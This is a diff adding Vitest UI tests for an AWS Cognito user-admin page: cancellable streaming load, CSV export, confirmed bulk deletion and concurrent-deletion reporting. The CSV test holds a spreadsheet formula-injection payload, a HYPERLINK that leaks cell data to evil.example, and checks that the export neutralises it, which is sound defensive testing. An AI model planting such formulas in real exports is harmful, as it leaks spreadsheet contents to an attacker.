@@ -9,7 +9,7 @@ import '@testing-library/jest-dom/vitest';
 import { cleanup, screen, waitFor, within } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
 import { http, HttpResponse } from 'msw';
-import { afterEach, describe, expect, it } from 'vitest';
+import { afterEach, describe, expect, it, vi } from 'vitest';
 import { DEMO } from '../../mocks/seed/demo';
 import type { AdminContextValue } from '../../src/aws/admin-context';
 import { getUserDetail } from '../../src/aws/user-detail';
@@ -269,5 +269,113 @@ describe('users list on the emulator', () => {
     expect(enables.filter((u) => u === spam)).toHaveLength(1);
     expect(enables.filter((u) => u === chargeback)).toHaveLength(2);
     expect((await userByEmail('chargeback@example.org')).Enabled).toBe(true);
+  });
+
+  it('streams with a progress bar, can be cancelled, and resumes without losing or repeating users', async () => {
+    const user = userEvent.setup();
+    let release: () => void = () => {};
+    const held = new Promise<void>((resolve) => (release = resolve));
+    target.host().server.use(
+      http.post('https://cognito-idp.us-east-1.amazonaws.com/', async ({ request }) => {
+        if (request.headers.get('x-amz-target') !== 'AWSCognitoIdentityProviderService.ListUsers') return undefined;
+        const body = (await request.clone().json()) as { Filter?: string };
+        // Partition "f" answers only when the test says so.
+        if (body.Filter === 'sub ^= "f"') await held;
+        return undefined;
+      }),
+    );
+    const expected = await poolUsers();
+    const ctx = await adminContext();
+    renderUsersPage('/users', ctx);
+    const cancel = await screen.findByRole('button', { name: 'Cancel loading' }, { timeout: 10_000 });
+    expect(screen.getByRole('progressbar', { name: 'Users loaded' })).toBeInTheDocument();
+    await waitFor(() => expect(screen.getByText(/^Loading… \d+ users of about/)).toBeInTheDocument());
+    await user.click(cancel);
+    const stopped = await screen.findByText(/^Loading cancelled at \d+ users/);
+    const loadedBefore = Number(/at (\d+) users/.exec(stopped.textContent ?? '')![1]);
+    expect(loadedBefore).toBeLessThan(expected.length);
+    expect(bodyRows().length).toBeGreaterThan(0);
+
+    release();
+    await user.click(screen.getByRole('button', { name: 'Resume loading' }));
+    await screen.findByText(`All ${expected.length} users loaded`, { exact: false }, { timeout: 10_000 });
+    expect(screen.getByText(`${expected.length} users`)).toBeInTheDocument();
+  });
+
+  it('exports the current view as CSV with formulas neutralised', async () => {
+    const user = userEvent.setup();
+    let saved: Blob | undefined;
+    const createObjectURL = vi.fn((blob: Blob) => {
+      saved = blob;
+      return 'blob:export';
+    });
+    Object.assign(URL, { createObjectURL, revokeObjectURL: vi.fn() });
+    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => {});
+    try {
+      await renderLoaded();
+      await user.type(quickFilter(), 'csv.injection');
+      await waitFor(() => expect(bodyRows()).toHaveLength(1));
+      await user.click(screen.getByRole('button', { name: 'Export…' }));
+      const dialog = screen.getByRole('dialog', { name: 'Export users' });
+      await user.click(within(dialog).getByLabelText('Every attribute'));
+      await user.click(within(dialog).getByRole('button', { name: 'Export 1 users' }));
+      await waitFor(() => expect(click).toHaveBeenCalledOnce());
+      const bytes = new Uint8Array(await saved!.arrayBuffer());
+      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
+      expect(text.startsWith('\uFEFFusername,sub,status,enabled,created,modified,groups,')).toBe(true);
+      expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")"`);
+      expect(text).toContain("'@SUM(A1:A9)");
+      expect(text).toContain(",'=1+2,");
+      expect(text.split('\r\n')).toHaveLength(3);
+    } finally {
+      click.mockRestore();
+    }
+  });
+
+  it('deletes after "delete N users" is typed; a user deleted elsewhere meanwhile is reported, not an error', async () => {
+    const user = userEvent.setup();
+    await renderLoaded();
+    const emails = ['lucas.silva@example.com.br', 'hannah.schmidt@example.de'];
+    for (const email of emails) {
+      await user.clear(quickFilter());
+      await user.type(quickFilter(), email);
+      await waitFor(() => expect(bodyRows()).toHaveLength(1));
+      await user.click(within(bodyRows()[0]!).getByRole('checkbox'));
+    }
+    // Another tab deletes one of them before the run.
+    const gone = await userByEmail('hannah.schmidt@example.de');
+    await target.host().call('cognito-idp', 'AdminDeleteUser', { UserPoolId: DEMO.userPoolId, Username: gone.Username });
+
+    await user.selectOptions(screen.getByLabelText('Action'), 'delete');
+    await user.click(screen.getByRole('button', { name: 'Delete…' }));
+    const dialog = screen.getByRole('alertdialog');
+    await user.type(within(dialog).getByLabelText('Type delete 2 users to confirm'), 'delete 2 users');
+    await user.click(within(dialog).getByRole('button', { name: 'Delete 2 users' }));
+    const results = await screen.findByRole('region', { name: 'Delete: results' }, { timeout: 10_000 });
+    expect(results).toHaveTextContent('1 done, 1 skipped, 0 failed');
+    expect(results).toHaveTextContent('Already deleted.');
+    expect(await poolUsers('email = "lucas.silva@example.com.br"')).toHaveLength(0);
+    // Both rows left the table.
+    await user.clear(quickFilter());
+    await user.type(quickFilter(), 'lucas.silva');
+    await screen.findByRole('heading', { name: 'No loaded users match the filter' });
+  });
+
+  it('says a user vanished when an action meets one deleted in another tab', async () => {
+    const user = userEvent.setup();
+    await renderLoaded();
+    await user.type(quickFilter(), 'mia.rossi');
+    await waitFor(() => expect(bodyRows()).toHaveLength(1));
+    await user.click(within(bodyRows()[0]!).getByRole('checkbox'));
+    const mia = await userByEmail('mia.rossi@example.it');
+    await target.host().call('cognito-idp', 'AdminDeleteUser', { UserPoolId: DEMO.userPoolId, Username: mia.Username });
+    await user.selectOptions(screen.getByLabelText('Action'), 'sign-out');
+    await user.click(screen.getByRole('button', { name: 'Sign out everywhere…' }));
+    await user.type(within(screen.getByRole('alertdialog')).getByLabelText('Type 1 to confirm'), '1');
+    await user.click(within(screen.getByRole('alertdialog')).getByRole('button', { name: 'Sign out everywhere 1 user' }));
+    const results = await screen.findByRole('region', { name: 'Sign out everywhere: results' }, { timeout: 10_000 });
+    expect(results).toHaveTextContent('0 done, 0 skipped, 1 failed');
+    expect(results).toHaveTextContent('This user no longer exists: deleted elsewhere, perhaps in another tab.');
   });
 });
